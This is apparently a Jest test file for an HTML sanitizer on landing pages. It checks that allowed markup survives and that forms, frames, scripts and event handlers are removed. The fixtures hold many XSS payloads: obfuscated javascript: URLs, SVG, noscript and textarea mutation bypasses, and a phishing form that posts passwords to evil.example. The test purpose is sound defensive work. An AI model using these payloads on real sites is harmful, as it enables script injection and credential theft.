import assert from 'node:assert/strict';
import { describe, test } from '@jest/globals';
import { sanitizeLandingPageHtml as clean } from './landing-page-html.js';

describe('landing page HTML, cleaned to an allow-list on write', () => {
  test('text, headings, lists, tables, links, images and inline styles stay as written', () => {
    const page =
      '<h1 style="color:#c00">Spring sale</h1><p class="lead">20% <strong>off</strong> <em>everything</em></p>' +
      '<ul><li>One</li></ul><table border="0"><tbody><tr><td colspan="2">Cell</td></tr></tbody></table>' +
      '<a href="https://shop.example/sale">Shop</a> <a href="mailto:hi@shop.example">Mail</a> <a href="tel:+15550100">Call</a>' +
      '<img src="https://cdn.example/a.png" alt="A" width="200" /><img src="data:image/png;base64,iVBORw0KGgo=" alt="B" />';
    assert.equal(clean(page), page);
  });

  test('no form, input or button survives, nor what they held', () => {
    const phishing = '<h2>Sign in</h2><form action="https://evil.example/steal" method="post"><label>Password</label><input type="password" name="p"><button formaction="https://evil.example">Go</button></form><input name="loose"><textarea>t</textarea><select><option>o</option></select>';
    assert.equal(clean(phishing), '<h2>Sign in</h2>');
  });

  test('no meta refresh, base, link, style sheet or frame', () => {
    const html = '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css"><style>body{display:none}</style><iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><p>kept</p>';
    assert.equal(clean(html), '<p>kept</p>');
  });

  test('no script, event handler or javascript: URL, however it is spelled', () => {
    const cases: [string, string][] = [
      ['<script>alert(1)</script><p>a</p>', '<p>a</p>'],
      ['<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>a</p>', '<p>a</p>'],
      ['<img src="x.png" onerror="alert(1)" onload="alert(2)">', '<img src="x.png" />'],
      ['<p onclick="alert(1)" onmouseover="x">a</p>', '<p>a</p>'],
      ['<a href="javascript:alert(1)">a</a>', '<a>a</a>'],
      ['<a href="JaVaScRiPt:alert(1)">a</a>', '<a>a</a>'],
      ['<a href="java&#x09;script:alert(1)">a</a>', '<a>a</a>'],
      ['<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>', '<a>a</a>'],
      ['<a href="vbscript:msgbox(1)">a</a>', '<a>a</a>'],
      ['<a href="data:text/html,<script>alert(1)</script>">a</a>', '<a>a</a>'],
      ['<a href="//evil.example/">a</a>', '<a>a</a>'],
      ['<img src="javascript:alert(1)">', '<img />'],
      ['<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><p>a</p>', '<p>a</p>'],
      ['<math><mtext><p>x</p></mtext></math><p>a</p>', '<p>a</p>'],
      ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>a</p>', '<p>a</p>'],
      ['<template><img src=x onerror=alert(1)></template><p>a</p>', '<p>a</p>'],
      // The shapes of the two advisories fixed after sanitize-html 2.17.5; both need tags this policy refuses.
      ['<textarea></textarea/><img src=x onerror=alert(1)></textarea><p>a</p>', '<p>a</p>'],
      ['<xmp></xmp/><img src=x onerror=alert(1)></xmp><p>a</p>', '<p>a</p>'],
      ['<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg><p>a</p>', '<p>a</p>'],
    ];
    for (const [dirty, expected] of cases) assert.equal(clean(dirty), expected, dirty);
  });

  test('cleaning twice changes nothing: a stored page is a fixed point', () => {
    const samples = ['<p>a<b>b</b></p>', '<form><input></form><p>x</p>', '<a href="https://x.example" onclick="y">l</a>', 'plain & <text>'];
    for (const sample of samples) assert.equal(clean(clean(sample)), clean(sample), sample);
  });
});
